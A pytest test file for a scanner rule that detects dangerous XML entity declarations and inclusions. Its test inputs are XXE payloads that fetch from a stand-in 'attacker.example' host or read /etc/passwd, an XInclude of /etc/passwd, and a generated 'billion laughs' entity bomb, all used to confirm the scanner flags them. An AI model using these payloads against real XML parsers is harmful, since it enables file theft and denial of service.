"""Rule `xml-entity`."""

import pytest

from support.rule_vectors import assert_vector_holds, findings_of
from support.scanning import examined
from weighbridge.core.artifact import FileFormat
from weighbridge.core.evidence import Finding

RULE = "xml-entity"
LAUGHS = "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(9))


def test_vector() -> None:
    """An entity that is a file is found, one that is text is not."""
    assert_vector_holds(RULE)


def _found(text: str) -> list[Finding]:
    return findings_of(RULE, examined(text.encode(), format=FileFormat.XML))


@pytest.mark.parametrize(
    "declarations",
    [
        '<!ENTITY x SYSTEM "http://attacker.example/">',
        '<!ENTITY x PUBLIC "a" "file:///etc/passwd">',
        '<!ENTITY % x SYSTEM "file:///etc/passwd"> %x;',
        '<!ENTITY % x "text">',
        f'<!ENTITY a0 "lol">{LAUGHS}',
        '<!ENTITY a "&b;"><!ENTITY b "text">',
        f'<!ENTITY a "{"x" * 20_000}">',
        f'<!ENTITY a "text"><!ENTITY b "{"&a;" * 5}">',
    ],
)
def test_entities(declarations: str) -> None:
    """Each entity that leads elsewhere, or stands for far more than is written, is found."""
    (finding, *_) = _found(f"<!DOCTYPE a [{declarations}]><a/>")
    assert finding.evidence[0].startswith("entity")


def test_references_in_the_text() -> None:
    """One long entity that the text refers to many times is found (quadratic blow-up)."""
    text = f'<!DOCTYPE a [<!ENTITY x "{"x" * 8_192}">]><a>{"&x;" * 1_025}</a>'
    (finding,) = _found(text)
    assert finding.evidence == ("entities of 8396800 characters or more, written out in the text",)


@pytest.mark.parametrize(
    "text",
    [
        '<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd"><a/>',
        '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></a>',
        (
            '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:include href="x"/>'
            "</xsl:stylesheet>"
        ),
    ],
)
def test_documents_from_elsewhere(text: str) -> None:
    """A document type from elsewhere and an inclusion are found."""
    assert len(_found(text)) == 1


@pytest.mark.parametrize(
    "text",
    [
        (
            '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
            '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>'
        ),
        '<!DOCTYPE svg [<!ENTITY ns "http://www.w3.org/2000/svg">]><svg xmlns="&ns;"/>',
        '<!DOCTYPE a [<!ENTITY x "a &amp; b">]><a>&x;&#65;</a>',
        f'<!DOCTYPE a [<!ENTITY x "text"><!ENTITY y "{"&x;" * 4}">]><a>&y;</a>',
        f'<!DOCTYPE a [<!ENTITY x "{"&amp;&#65;" * 10}">]><a>&x;</a>',
        f'<!DOCTYPE a [<!ENTITY x "{"x" * 8_192}">]><a>{"&x;" * 1_024}</a>',
        "<a><include/><![CDATA[<!ENTITY x SYSTEM 'y'>]]></a>",
    ],
)
def test_harmless(text: str) -> None:
    """What drawing programs write, and what only looks like a declaration, is not found."""
    assert examined(text.encode(), format=FileFormat.XML) == ()
